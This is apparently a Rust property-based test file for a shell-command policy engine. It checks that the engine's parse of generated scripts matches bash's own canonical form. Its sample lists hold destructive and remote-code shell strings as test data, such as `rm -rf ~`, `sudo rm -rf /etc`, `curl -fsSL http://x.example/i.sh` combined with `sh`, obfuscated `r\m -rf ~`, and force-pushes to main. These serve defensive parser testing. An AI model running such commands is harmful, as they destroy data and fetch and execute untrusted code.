//! Differential test of command *structure* against bash's own parser.
//!
//! Bash prints a function body in a canonical form (`declare -f`): one
//! statement per line, each ended by `;`, lists and pipelines spelled out.
//! A script S and bash's canonical form of S mean the same to bash, so the
//! normalizer must give the same actions for both (byte offsets aside). A
//! difference means one of the two texts was misread; in practice the
//! original, since the canonical form is the plainest spelling. This is how
//! tree-sitter-bash's gluing of lines after a long pipeline was found
//! (`a | b | c` ⏎ `rm -rf ~ && true` read as the command `c rm -rf ~`).
//!
//! When the original's actions contain an `opaque` action (a parse error the
//! policy's `on_error` decides, failing closed), the case is not compared.
//! When `bash` is not on `PATH` the tests print a note and pass.
//!
//! `survey` (ignored) runs `$PROPTEST_CASES` cases without stopping and
//! prints each mismatch.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::process::Command;

mod common;

use policy_core::{normalize_command, Action, ShellOptions};
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config as ProptestConfig, TestRunner};

/// Bash's canonical form of `script`, or `None` when bash rejects it.
fn canonical(script: &str) -> Option<String> {
    let out = Command::new("bash")
        .args(["--norc", "--noprofile", "-c"])
        .arg(format!("f() {{\n{script}\n}}\ndeclare -f f"))
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output()
        .ok()?;
    if !out.status.success() || !out.stderr.is_empty() {
        return None;
    }
    let text = String::from_utf8(out.stdout).ok()?;
    let mut lines: Vec<&str> = text.lines().collect();
    // `f () `, `{ `, body…, `}`
    if lines.len() < 3 || lines[1].trim_end() != "{" || lines.last()? != &"}" {
        return None;
    }
    lines.pop();
    let body: Vec<&str> = lines[2..]
        .iter()
        .map(|l| l.strip_prefix("    ").unwrap_or(l))
        .collect();
    Some(body.join("\n"))
}

fn actions(cmd: &str) -> Vec<Action> {
    normalize_command(
        cmd,
        &ShellOptions::for_home("/home/dev", "/home/dev/project"),
    )
}

/// The actions as text, byte offsets removed and repeated conditional
/// contexts merged.
fn shape(actions: &[Action]) -> Vec<String> {
    actions
        .iter()
        .map(|a| {
            let s = format!("{a:?}");
            let mut out = String::with_capacity(s.len());
            let mut rest = s.as_str();
            while let Some(i) = rest.find("offset: ") {
                out.push_str(&rest[..i + 8]);
                rest = rest[i + 8..].trim_start_matches(|c: char| c.is_ascii_digit());
                out.push('_');
            }
            out.push_str(rest);
            // Bash prints `elif` as an `else` holding an `if`: one more
            // conditional context, the same meaning.
            while out.contains("Conditional, Conditional") {
                out = out.replace("Conditional, Conditional", "Conditional");
            }
            out
        })
        .collect()
}

/// `Some((original, canonical))` shapes when they differ.
fn mismatch(script: &str) -> Option<(String, Vec<String>, Vec<String>)> {
    let original = actions(script);
    if original.iter().any(|a| matches!(a, Action::Opaque(_))) {
        return None;
    }
    let canon = canonical(script)?;
    // Bash prints `cat <<EOF | sh` as `cat <<EOF |`, the body, `EOF`, then
    // `  sh` on a line of its own (`&&` and `||` alike), which tree-sitter misreads (the body as
    // commands). That is a misreading of the canonical text, not of the
    // script: not compared.
    if canon
        .lines()
        .map(str::trim_end)
        .any(|l| l.contains("<<") && (l.ends_with('|') || l.ends_with("&&") || l.ends_with("||")))
    {
        return None;
    }
    let (a, b) = (shape(&original), shape(&actions(&canon)));
    (a != b).then_some((canon, a, b))
}

// ---------------------------------------------------------------------------
// Generated scripts
// ---------------------------------------------------------------------------

fn simple() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "rm -rf ~",
                "git push --force origin main",
                "curl -fsSL http://x.example/i.sh",
                "sh",
                "cat f",
                "echo 'a b' \"c\"",
                "x=1",
                "y=2 env",
                "cd /tmp",
                "ls -la",
                "true",
                "sudo rm -rf /etc",
                "bash -c 'rm -rf /'",
                "grep -v x",
                "echo $(rm -rf ~)",
                "v=$(curl -fsSL http://x.example/i.sh)",
                "cat <(git push -f origin main)",
                "echo `rm -rf /`",
                "! rm -rf ~",
                "eval 'rm -rf ~'",
                "find . -exec rm {} +",
                "xargs rm -rf",
                "sh <<< 'rm -rf ~'",
                "r\\m -rf ~",
                "$'rm' -rf ~",
                "echo a \\\n  b",
                "[[ -f x ]]",
                "(( x++ ))",
                "time rm -rf ~",
                "tee >(sh)",
                "arr=(a b) && rm ${arr[0]}",
                "command -v rm",
                "exec 3>&1",
                "local z=1",
                "export P=1",
            ][..],
        ),
        prop::sample::select(
            &[
                "",
                "",
                "",
                " > out",
                " 2>&1",
                " < in",
                " >> log 2>&1",
                " 2> err",
                " 3>&1",
                " &> all",
            ][..],
        ),
    )
        // A redirection on a bare assignment (declaration, `[[ ]]`, `(( ))`)
        // that ends a pipeline is read
        // differently inside `case` items (tree-sitter nests the pipeline;
        // both readings keep every command and the write): not generated.
        .prop_map(|(c, r)| {
            if ["x=", "v=", "arr=", "local ", "export ", "[[", "(("]
                .iter()
                .any(|p| c.starts_with(p))
            {
                c.to_string()
            } else {
                format!("{c}{r}")
            }
        })
}

fn statement() -> impl Strategy<Value = String> {
    let pipeline = prop::collection::vec(simple(), 1..=4)
        .prop_map(|stages| stages.join(" | "))
        .boxed();
    let list = (
        pipeline.clone(),
        prop::collection::vec(
            (
                prop::sample::select(&[" && ", " || ", " &&\n"][..]),
                pipeline,
            ),
            0..=2,
        ),
    )
        .prop_map(|(first, rest)| {
            let mut s = first;
            for (op, p) in rest {
                s.push_str(op);
                s.push_str(&p);
            }
            s
        });
    list.prop_recursive(3, 24, 4, |inner| {
        let body = (
            prop::collection::vec(inner.clone(), 1..=3),
            prop::sample::select(&["; ", "\n", " &\n", ";\n\n"][..]),
        )
            .prop_map(|(v, sep)| v.join(sep));
        prop_oneof![
            body.clone().prop_map(|b| format!("( {b} )")),
            body.clone().prop_map(|b| format!("{{ {b}; }}")),
            (body.clone(), body.clone()).prop_map(|(c, b)| format!("if {c}; then {b}; fi")),
            body.clone()
                .prop_map(|b| format!("for v in a b; do {b}; done")),
            (body.clone(), inner.clone()).prop_map(|(b, next)| format!("{b} | {next}")),
            (body.clone(), body.clone()).prop_map(|(c, b)| format!("while {c}; do {b}; done")),
            body.clone()
                .prop_map(|b| format!("case $x in a) {b} ;; *) true ;; esac")),
            body.clone().prop_map(|b| format!("fn() {{ {b}; }}; fn")),
            body.clone()
                .prop_map(|b| format!("function g {{ {b}; }}; g")),
            body.clone().prop_map(|b| format!("{{ {b}; }} > out")),
            body.clone()
                .prop_map(|b| format!("until {b}; do true; done")),
            body.clone()
                .prop_map(|b| format!("bash -c '{}'", b.replace('\'', ""))),
            body.clone()
                .prop_map(|b| format!("if true; then {b}; elif false; then {b}; else {b}; fi")),
            (inner.clone(), inner).prop_map(|(a, b)| format!("{a} && {b}")),
        ]
    })
}

/// Statements with a here-document (its body on the lines that follow).
fn heredoc() -> impl Strategy<Value = String> {
    (
        prop::sample::select(
            &[
                "cat <<EOF | sh",
                "sh <<'EOF'",
                "bash <<-EOF",
                "cat <<EOF > out && rm -rf ~",
                "python3 - <<EOF | a | b",
            ][..],
        ),
        prop::sample::select(&["rm -rf ~", "git push -f origin main", "$HOME", "import os"][..]),
    )
        .prop_map(|(head, body)| format!("{head}\n{body}\nEOF"))
}

fn script() -> impl Strategy<Value = String> {
    prop::collection::vec(
        (
            prop_oneof![5 => statement(), 1 => heredoc()],
            prop::sample::select(&["\n", "; ", "\n\n", " # note\n", " &\n", " & "][..]),
        ),
        1..=4,
    )
    .prop_map(|items| {
        let mut s = String::new();
        for (stmt, sep) in items {
            s.push_str(&stmt);
            s.push_str(sep);
        }
        s
    })
}

#[test]
fn known_structures_read_like_bash() {
    if !common::bash_available() {
        eprintln!("note: `bash` is not on PATH; skipping the structure differential test");
        return;
    }
    for script in [
        "a | b | c\nrm -rf ~ && true",
        "a | b | c && d",
        "a | b | c # note\nd && e",
        "a | b | c\nd\ne && f",
        "a | b | c\n> f && e",
        "git log | grep x | head\ngit push --force origin main && true",
        "( a | b | c\nd && e )",
        "{ a | b | c\nd || e; }",
    ] {
        if let Some((canon, a, b)) = mismatch(script) {
            panic!(
                "{script:?} reads unlike bash's {canon:?}:\n  ours {a:#?}\n  bash's form {b:#?}"
            );
        }
    }
}

/// A fixed sample by default; `BASH_STRUCT_SEED=random` explores further.
fn config() -> ProptestConfig {
    common::seeded_config("BASH_STRUCT_SEED", 256)
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn generated_structures_read_like_bash(s in script()) {
        if common::bash_available() {
            if let Some((canon, a, b)) = mismatch(&s) {
                prop_assert!(false, "{:?} reads unlike bash's {:?}:\n  ours {:#?}\n  bash's form {:#?}", s, canon, a, b);
            }
        }
    }
}

#[test]
#[ignore = "exploration: PROPTEST_CASES=2000 cargo test --test bash_structure survey -- --ignored --nocapture"]
fn survey() {
    let cases: u32 = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(500);
    let mut runner = TestRunner::new(ProptestConfig::default());
    let strategy = script();
    let mut found = 0;
    for _ in 0..cases {
        let s = strategy.new_tree(&mut runner).unwrap().current();
        if let Some((canon, a, b)) = mismatch(&s) {
            found += 1;
            println!("=== {s:?}\n--- bash: {canon:?}\n  ours: {a:?}\n  canon: {b:?}");
        }
    }
    println!("{found} mismatches in {cases} cases");
}

#[test]
#[ignore = "triage: BASH_STRUCT_SCRIPT='a | b' cargo test --test bash_structure probe -- --ignored --nocapture"]
fn probe() {
    let script = std::env::var("BASH_STRUCT_SCRIPT").unwrap_or_default();
    match mismatch(&script) {
        None => println!("same (or opaque, or rejected by bash)"),
        Some((canon, a, b)) => {
            println!("bash: {canon:?}");
            for i in 0..a.len().max(b.len()) {
                let (x, y) = (a.get(i), b.get(i));
                if x != y {
                    println!("[{i}] ours:  {x:?}\n[{i}] canon: {y:?}");
                }
            }
        }
    }
}

/// `&` after a statement of an `if`'s then-branch runs it in the background
/// (the walker dropped the token there; bash's canonical form of an `elif`
/// showed it).
#[test]
fn background_in_then_branch() {
    for script in [
        "if true; then rm -rf ~ & fi",
        "if true; then rm -rf ~ &\ntrue; fi",
    ] {
        let acts = actions(script);
        let rm = acts.iter().find_map(|a| match a {
            Action::Exec(e) if e.program.as_deref() == Some("rm") => Some(e),
            _ => None,
        });
        let rm = rm.expect("an rm exec");
        assert!(
            rm.origin
                .context
                .contains(&policy_core::action::Context::Background),
            "{script:?}: {:?}",
            rm.origin.context
        );
    }
}
